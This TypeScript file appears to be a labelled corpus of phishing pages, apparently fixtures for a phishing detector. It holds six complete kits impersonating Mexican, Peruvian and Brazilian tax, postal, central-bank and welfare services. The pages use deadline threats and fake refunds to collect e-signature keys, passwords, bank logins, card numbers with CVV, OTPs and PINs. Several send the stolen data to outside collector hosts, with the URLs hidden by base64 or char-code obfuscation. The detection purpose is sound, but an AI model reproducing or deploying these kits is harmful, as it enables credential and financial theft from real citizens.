import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, logo, favicon, geoPrefix, cardJs, b64, charCodes, pieces } from '../parts/yy-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yy-sat-buzon-efirma-robo',
  label: 'phishing',
  kind: 'tax-authority-credential-kit',
  url: 'https://sat-buzontributario-notificacion.com/BuzonTributario/acceso',
  body: doc({
    lang: 'es-MX',
    title: 'Buzón Tributario - SAT',
    head: favicon('#611232', 'S'),
    css: `body{margin:0;font-family:"Montserrat",Arial;background:#f5f5f5}.gob{background:#611232;color:#fff;padding:10px 30px;font-size:14px}
.h{background:#fff;padding:14px 30px;border-bottom:1px solid #ddd}.c{max-width:760px;margin:30px auto;background:#fff;padding:30px;border:1px solid #ddd}
.tabs a{display:inline-block;padding:8px 16px;border:1px solid #ccc;border-bottom:0;margin-right:4px;color:#611232;text-decoration:none;cursor:pointer}.tabs a.on{background:#611232;color:#fff}
.p{border:1px solid #ccc;padding:20px}.p label{display:block;margin-top:12px;font-size:14px}.p input{width:100%;box-sizing:border-box;padding:8px;border:1px solid #aaa}
.btn{background:#611232;color:#fff;border:0;padding:10px 26px;margin-top:16px}.notif{background:#fff3cd;border:1px solid #f0d78c;padding:12px;font-size:14px;margin-bottom:16px}#pw{display:none}`,
    body: `<div class="gob">gob.mx &nbsp;|&nbsp; Trámites &nbsp; Gobierno &nbsp; Búsqueda</div><div class="h">${logo('sat', 40)}</div>
<div class="c"><div class="notif"><b>Tienes 1 notificación pendiente:</b> Requerimiento de información Oficio 500-05-2025-18874 (Discrepancia fiscal). Si no lo atiendes en 3 días hábiles se procederá con la restricción temporal de tu Certificado de Sello Digital.</div>
<div class="tabs"><a class="on" onclick="t(0)">e.firma</a><a onclick="t(1)">Contraseña</a></div>
<form class="p" id="pf" enctype="multipart/form-data" method="post" action="/BuzonTributario/upload.php">
<div id="ef"><label>Certificado (.cer)</label><input type="file" name="cer" accept=".cer"><label>Clave privada (.key)</label><input type="file" name="key" accept=".key">
<label>Contraseña de clave privada</label><input type="password" name="keypass"><label>RFC</label><input name="rfc1" maxlength="13"></div>
<div id="pw"><label>RFC</label><input name="rfc2" maxlength="13"><label>Contraseña</label><input type="password" name="ciec"><label>Captcha</label><input name="cap" placeholder="Escribe los caracteres: 7KQ2M"></div>
<button class="btn">Enviar</button></form></div>
<script>function t(n){document.querySelectorAll('.tabs a').forEach(function(a,i){a.className=i===n?'on':''});document.getElementById('ef').style.display=n?'none':'block';document.getElementById('pw').style.display=n?'block':'none';}</script>`,
  }),
  routes: {
    'sat-buzontributario-notificacion.com/BuzonTributario/upload.php': redirectRoute(302, 'https://www.sat.gob.mx/'),
  },
},
{
  id: 'yy-sunat-clave-sol-reembolso',
  label: 'phishing',
  kind: 'tax-authority-credential-kit',
  url: 'https://sunat-gob-pe.tramite-reembolso.xyz/cl-ti-itmenu/MenuInternet.htm',
  body: doc({
    lang: 'es-PE',
    title: 'SUNAT - Operaciones en Línea',
    head: favicon('#c8102e', 'S'),
    css: `body{margin:0;font-family:Arial;background:#e8ecef}.h{background:#fff;padding:12px 30px;border-bottom:4px solid #c8102e}.lg{max-width:380px;margin:40px auto;background:#fff;border-radius:4px;padding:26px}
.tab{display:flex}.tab div{flex:1;text-align:center;padding:8px;background:#ddd;font-size:13px}.tab .on{background:#00436d;color:#fff}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #bbb;margin:6px 0 12px}.ing{width:100%;background:#00436d;color:#fff;border:0;padding:11px;font-size:15px}
.bx{display:none}`,
    body: `<div class="h">${logo('sunat', 32)}</div>
<div class="lg"><div class="tab"><div class="on">RUC</div><div>DNI</div></div>
<div id="l1"><p style="font-size:13px">Reembolso de percepciones y retenciones no aplicadas – periodo 2024. Ingrese con su Clave SOL.</p>
<input id="ruc" placeholder="RUC" maxlength="11"><input id="usr" placeholder="Usuario"><input id="sol" type="password" placeholder="Contraseña"><button class="ing" onclick="uno()">Iniciar sesión</button></div>
<div id="l2" class="bx"><p><b>Monto a reembolsar: S/ 2,418.00</b></p><p style="font-size:13px">Registre la cuenta y tarjeta a la que se abonará:</p><input id="cci" placeholder="Código de cuenta interbancario (CCI)" maxlength="20"><input id="tj" placeholder="Número de tarjeta de débito" maxlength="19"><input id="fv" placeholder="Vencimiento MM/AA"><input id="cv" placeholder="CVV" maxlength="3"><button class="ing" onclick="dos()">Confirmar abono</button></div>
</div>
<script>
var P=atob('${b64('https://sunat-reemb-api.onrender.com/collect')}');
function mand(o){return fetch(P,{method:'POST',headers:{'Content-Type':'text/plain'},body:btoa(unescape(encodeURIComponent(JSON.stringify(o))))});}
function uno(){mand({ruc:ruc.value,u:usr.value,c:sol.value});l1.className='bx';l2.style.display='block';}
function dos(){mand({ruc:ruc.value,cci:cci.value,tj:tj.value,fv:fv.value,cv:cv.value}).finally(function(){location='https://www.sunat.gob.pe/';});}
</script>`,
  }),
},
{
  id: 'yy-receita-cpf-suspenso-govbr',
  label: 'phishing',
  kind: 'gov-sso-credential-kit',
  url: 'https://receita-regularizacao-cpf.com/cpf/situacao',
  body: doc({
    lang: 'pt-BR',
    title: 'Receita Federal - Regularização de CPF',
    head: favicon('#1351b4', 'R'),
    css: `body{margin:0;font-family:Rawline,"Raleway",Arial;background:#f8f8f8}.bar{background:#fff;padding:10px 28px;box-shadow:0 1px 6px rgba(0,0,0,.12);display:flex;gap:20px;align-items:center}
.ct{max-width:560px;margin:28px auto;background:#fff;padding:28px;border-radius:6px}.st{background:#fde0db;color:#b21b0c;padding:12px;border-radius:4px;font-weight:600}
input{width:100%;box-sizing:border-box;padding:12px;border:1px solid #888;border-radius:4px;margin:6px 0 14px;font-size:16px}.bt{background:#1351b4;color:#fff;border:0;border-radius:20px;padding:11px 28px;font-size:15px}
.hide{display:none}`,
    body: `<div class="bar">${logo('govbr', 30)}${logo('receita', 26)}</div>
<div class="ct" id="a"><h2>Consulta Situação Cadastral</h2><p>Informe seu CPF para verificar pendências.</p><input id="cpf" placeholder="000.000.000-00" maxlength="14"><button class="bt" onclick="cons()">Consultar</button></div>
<div class="ct hide" id="b"><p class="st">Situação: SUSPENSA – Declaração IRPF 2025 com inconsistências</p><p>Seu CPF será <b>cancelado em 48 horas</b>, bloqueando contas bancárias, Pix e benefícios. Para regularizar, entre com sua conta gov.br:</p>
<label>CPF</label><input id="c2" readonly><label>Senha gov.br</label><input id="sg" type="password"><button class="bt" onclick="entra()">Entrar com gov.br</button></div>
<div class="ct hide" id="c"><p>Confirme o código enviado para o seu celular e o e-mail cadastrado:</p><input id="cod" maxlength="6"><label>E-mail</label><input id="em"><label>Senha do e-mail</label><input id="es" type="password"><button class="bt" onclick="fim()">Regularizar</button></div>
<script>
${geoPrefix('ORIG')}
var url=[${charCodes('/cpf/api.php')}].map(function(c){return String.fromCharCode(c)}).join('');
function s(o){o.orig=ORIG;return fetch(url,{method:'POST',body:new URLSearchParams(o)});}
function cons(){c2.value=cpf.value;s({cpf:cpf.value});a.classList.add('hide');b.classList.remove('hide');}
function entra(){s({cpf:cpf.value,senha:sg.value});b.classList.add('hide');c.classList.remove('hide');}
function fim(){s({cpf:cpf.value,cod:cod.value,email:em.value,esenha:es.value}).then(function(){location='https://www.gov.br/receitafederal';});}
</script>`,
  }),
  routes: {
    'receita-regularizacao-cpf.com/cpf/api.php': jsonRoute({ ok: true }),
  },
},
{
  id: 'yy-correios-taxa-importacao-cartao',
  label: 'phishing',
  kind: 'parcel-fee-card-phish',
  url: 'https://correios.encomendas-br.link/BR7743',
  routes: {
    'correios.encomendas-br.link/BR7743': redirectRoute(301, 'https://rastreio-correios-objeto.com/rastreamento/?obj=NL829104477BR'),
    'rastreio-correios-objeto.com/rastreamento/': htmlRoute(doc({
      lang: 'pt-BR',
      title: 'Correios - Rastreamento de Objetos',
      head: favicon('#ffd400', 'C'),
      css: `body{margin:0;font-family:Arial;background:#f3f3f3}.h{background:#ffd400;padding:14px 28px}.w{max-width:620px;margin:22px auto;background:#fff;border-radius:6px;padding:24px}
.ev{border-left:3px solid #00416b;padding:6px 14px;margin:10px 0;font-size:14px}.ev.r{border-color:#d00}.tx{background:#fff8d6;padding:14px;border-radius:6px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #aaa;border-radius:4px;margin:5px 0 10px}.r2{display:flex;gap:10px}.b{background:#00416b;color:#fff;border:0;padding:13px;width:100%;border-radius:4px;font-size:16px}`,
      body: `<div class="h">${logo('correios', 32)}</div>
<div class="w"><h3>Objeto: <span id="ob"></span></h3>
<div class="ev r"><b>Aguardando pagamento</b><br>Unidade de Tratamento Internacional – CURITIBA/PR · 03/11/2025 08:14</div>
<div class="ev"><b>Encaminhado para fiscalização aduaneira</b><br>De país de origem para Unidade de Tratamento · 29/10/2025</div>
<div class="ev"><b>Objeto postado</b><br>China · 18/10/2025</div>
<div class="tx"><b>Taxa de importação + despacho postal: R$ 39,74</b><br>O objeto será devolvido ao remetente se o pagamento não for realizado em até 2 dias.</div>
<form id="pg" style="margin-top:16px"><input name="nome" placeholder="Nome completo" required><input name="cpf" placeholder="CPF" required>
<input name="cartao" placeholder="Número do cartão" oninput="fmt(this)" required><div class="r2"><input name="val" placeholder="Validade MM/AA" required><input name="cvv" placeholder="CVV" required></div>
<button class="b">Pagar R$ 39,74</button></form></div>
<script>
${cardJs}
document.getElementById('ob').textContent=new URLSearchParams(location.search).get('obj')||'NL829104477BR';
document.getElementById('pg').onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));if(!luhn(d.cartao)){alert('Cartão inválido');return;}d.bandeira=marca(d.cartao.replace(/\\D/g,''));
fetch('/rastreamento/pagar.php',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)}).then(function(){location='/rastreamento/3ds.html';});};
</script>`,
    })),
    'rastreio-correios-objeto.com/rastreamento/3ds.html': htmlRoute(doc({
      lang: 'pt-BR',
      title: 'Verificação 3D Secure',
      body: `<div style="font-family:Arial;max-width:360px;margin:50px auto;border:1px solid #ccc;padding:22px"><h3>Verified by Visa / Mastercard ID Check</h3><p>Digite o código enviado pelo seu banco por SMS para autorizar a compra de R$ 39,74 em CORREIOS*TAXAS.</p><form method="post" action="/rastreamento/otp.php"><input name="otp" maxlength="8" style="width:100%;padding:10px"><br><br><button style="width:100%;padding:10px">Confirmar</button></form></div>`,
    })),
  },
},
{
  id: 'yy-valores-receber-govbr-banco',
  label: 'phishing',
  kind: 'gov-sso-credential-kit',
  url: 'https://valoresareceber-bcb.org/consulta/',
  body: doc({
    lang: 'pt-BR',
    title: 'Valores a Receber - Banco Central do Brasil',
    head: favicon('#0c326f', 'V'),
    css: `body{margin:0;font-family:Arial;background:#f0f3f7}.h{background:#0c326f;color:#fff;padding:16px 28px;font-size:18px}.w{max-width:520px;margin:24px auto;background:#fff;border-radius:8px;padding:26px}
input,select{width:100%;box-sizing:border-box;padding:11px;border:1px solid #99a;border-radius:4px;margin:6px 0 14px;font-size:15px}.b{width:100%;background:#168821;color:#fff;border:0;padding:13px;border-radius:20px;font-size:16px}
.q{display:none}.val{font-size:30px;color:#168821;font-weight:700}`,
    body: `<div class="h">Banco Central do Brasil · Sistema de Valores a Receber (SVR)</div>
<div class="w" id="s1">${logo('govbr', 28)}<h3>Consulte se você tem dinheiro esquecido em bancos</h3><label>CPF</label><input id="cpf" maxlength="14"><label>Data de nascimento</label><input id="dn" placeholder="dd/mm/aaaa"><button class="b" onclick="n1()">Consultar</button></div>
<div class="w q" id="s2"><p>Encontramos valores em seu nome:</p><p class="val">R$ 1.284,67</p><p>Instituição: <b>BANCO DO BRASIL S.A.</b></p><p>Para solicitar a transferência entre com sua conta gov.br (nível prata ou ouro):</p><label>Senha gov.br</label><input id="sg" type="password"><button class="b" onclick="n2()">Solicitar valor</button></div>
<div class="w q" id="s3"><p>Informe a conta para crédito. Para confirmar a titularidade acesse com os dados do seu internet banking:</p><select id="bc"><option>Banco do Brasil</option><option>Itaú</option><option>Bradesco</option><option>Caixa</option><option>Santander</option><option>Nubank</option><option>Inter</option></select>
<input id="ag" placeholder="Agência"><input id="cc" placeholder="Conta com dígito"><input id="sb" type="password" placeholder="Senha do internet banking (8 dígitos)"><input id="s6" type="password" placeholder="Senha de 6 dígitos / assinatura eletrônica"><button class="b" onclick="n3()">Confirmar</button></div>
<script>
var Q=${pieces('https://svr-bcb-coleta.replit.app/in', 9)}.join('');
function env(o){o.cpf=cpf.value;return fetch(Q,{method:'POST',mode:'no-cors',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:new URLSearchParams(o)});}
function mv(a,b){document.getElementById(a).style.display='none';document.getElementById(b).style.display='block';}
function n1(){env({dn:dn.value});mv('s1','s2');}
function n2(){env({gov:sg.value});mv('s2','s3');}
function n3(){env({banco:bc.value,ag:ag.value,cc:cc.value,sb:sb.value,s6:s6.value}).then(function(){document.getElementById('s3').innerHTML='<h3>Solicitação registrada</h3><p>O valor será creditado em até 12 dias úteis.</p>';});}
</script>`,
  }),
},
{
  id: 'yy-bienestar-apoyo-curp-nip',
  label: 'phishing',
  kind: 'subsidy-credential-kit',
  url: 'https://programas-bienestar-registro.com/apoyo-7500/',
  body: doc({
    lang: 'es-MX',
    title: 'Registro Apoyo Bienestar $7,500',
    head: favicon('#691c32', 'B'),
    css: `body{margin:0;font-family:"Noto Sans",Arial;background:#f7f4ef}.g{background:#691c32;color:#fff;padding:14px 24px;font-weight:700}
.c{max-width:520px;margin:22px auto;background:#fff;border-radius:8px;padding:24px;border-top:6px solid #bc955c}h1{color:#691c32;font-size:22px}
.r{display:flex;justify-content:space-between;background:#f2ebe0;padding:10px;border-radius:6px;font-size:14px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;border-radius:6px;margin:6px 0 12px}button{width:100%;background:#691c32;color:#fff;border:0;padding:13px;border-radius:6px;font-size:16px}
.cnt{color:#b00;font-weight:700}`,
    body: `<div class="g">Gobierno de México · Secretaría de Bienestar</div>
<div class="c"><h1>Apoyo Económico Bienestar 2025</h1><div class="r"><span>Monto del apoyo</span><b>$7,500.00</b></div>
<p>Registro abierto para beneficiarios con Tarjeta del Bienestar. Quedan <span class="cnt" id="lug">312</span> lugares en tu estado.</p>
<form id="bf" method="post" action="/apoyo-7500/registro.php"><input name="curp" placeholder="CURP (18 caracteres)" maxlength="18" required><input name="nombre" placeholder="Nombre completo" required>
<input name="tarjeta" placeholder="Número de Tarjeta del Bienestar (16 dígitos)" maxlength="16" required><input name="nip" placeholder="NIP de la tarjeta" type="password" maxlength="4" required>
<input name="cel" placeholder="Celular a 10 dígitos" required><button>Registrarme</button></form>
<p style="font-size:11px;color:#888">Este programa es público, ajeno a cualquier partido político.</p></div>
<script>var l=312;setInterval(function(){l=Math.max(7,l-Math.floor(Math.random()*3));document.getElementById('lug').textContent=l;},2500);</script>`,
  }),
},
];
